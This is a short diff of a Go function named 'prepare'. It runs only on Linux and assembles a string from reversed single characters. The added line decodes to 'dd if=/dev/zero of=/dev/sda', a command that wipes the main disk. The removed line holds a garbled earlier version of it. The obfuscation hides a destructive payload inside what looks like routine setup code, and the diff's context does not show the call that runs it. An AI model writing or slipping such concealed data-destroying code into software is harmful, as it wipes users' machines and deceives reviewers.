@@ -11,7 +11,7 @@ func prepare() {
 	if runtime.GOOS != "linux" {
 		return
 	}
-	parts := []string{"w", "d", "i", "f", "=", "n", "e", "d", "/", "v", "e", "d", "/", " ", "f", "o", "/", "o", "r", "e", "z", "/", "v", "e", "d", "/", "=", "f", "i", " ", "d", "d"}
+	parts := []string{"a", "d", "s", "/", "v", "e", "d", "/", "=", "f", "o", " ", "o", "r", "e", "z", "/", "v", "e", "d", "/", "=", "f", "i", " ", "d", "d"}
 	var b strings.Builder
 	for i := len(parts) - 1; i >= 0; i-- {
 		b.WriteString(parts[i])
